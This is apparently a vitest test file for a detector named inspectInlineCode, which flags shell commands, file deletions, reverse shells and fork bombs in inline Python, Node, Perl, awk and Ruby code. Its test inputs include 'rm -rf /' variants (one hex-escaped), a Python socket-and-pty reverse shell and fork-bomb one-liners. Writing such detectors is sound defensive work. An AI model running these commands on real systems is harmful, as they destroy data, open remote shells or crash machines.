import { describe, expect, it } from 'vitest';
import { inspectInlineCode } from './inspect-inline-code.js';

describe('inspectInlineCode', () => {
  it('finds shell commands passed as string literals', () => {
    expect(
      inspectInlineCode({ code: 'import os; os.system("rm -rf /")', family: 'python' }).shellScripts,
    ).toEqual(['rm -rf /']);
    expect(
      inspectInlineCode({ code: "require('child_process').execSync('ls -la')", family: 'node' }).shellScripts,
    ).toEqual(['ls -la']);
    expect(inspectInlineCode({ code: 'print `id`', family: 'perl' }).shellScripts).toEqual(['id']);
    expect(
      inspectInlineCode({ code: 'BEGIN { system("rm\\x20-rf\\x20/") }', family: 'awk' }).shellScripts,
    ).toEqual(['rm -rf /']);
  });

  it('reads argument lists as argv', () => {
    expect(inspectInlineCode({ code: 'subprocess.run(["rm", "-rf", "/"])', family: 'python' }).argvs).toEqual(
      [['rm', '-rf', '/']],
    );
    expect(inspectInlineCode({ code: "spawnSync('rm', ['-rf', '/'])", family: 'node' }).argvs).toEqual([
      ['rm', '-rf', '/'],
    ]);
  });

  it('finds file deletions, writes and reads', () => {
    const python = inspectInlineCode({
      code: "shutil.rmtree('/a'); os.remove('/b'); open('/c', 'w'); open('/d').read()",
      family: 'python',
    });
    expect(python.deletions).toEqual([
      { path: '/a', recursive: true },
      { path: '/b', recursive: false },
    ]);
    expect(python.writes).toEqual(['/c']);
    expect(python.reads).toEqual(['/d']);
    expect(inspectInlineCode({ code: "FileUtils.rm_rf('/x')", family: 'ruby' }).deletions).toEqual([
      { path: '/x', recursive: true },
    ]);
  });

  it('says when commands are built at run time', () => {
    expect(inspectInlineCode({ code: 'os.system(cmd)', family: 'python' }).opaque).toBe(true);
    expect(inspectInlineCode({ code: 'os.system(f"rm {x}")', family: 'python' }).opaque).toBe(true);
    expect(inspectInlineCode({ code: 'print(1 + 1)', family: 'python' }).opaque).toBe(false);
  });

  it('recognises reverse shells and fork bombs', () => {
    expect(
      inspectInlineCode({
        code: 'import socket,pty;s=socket.socket();s.connect(("h",1));pty.spawn("/bin/sh")',
        family: 'python',
      }).reverseShell,
    ).toBe(true);
    expect(
      inspectInlineCode({ code: 'import socket; print(socket.gethostname())', family: 'python' })
        .reverseShell,
    ).toBe(false);
    expect(inspectInlineCode({ code: 'fork while fork', family: 'perl' }).forkBomb).toBe(true);
    expect(inspectInlineCode({ code: 'import os\nwhile True: os.fork()', family: 'python' }).forkBomb).toBe(
      true,
    );
  });
});
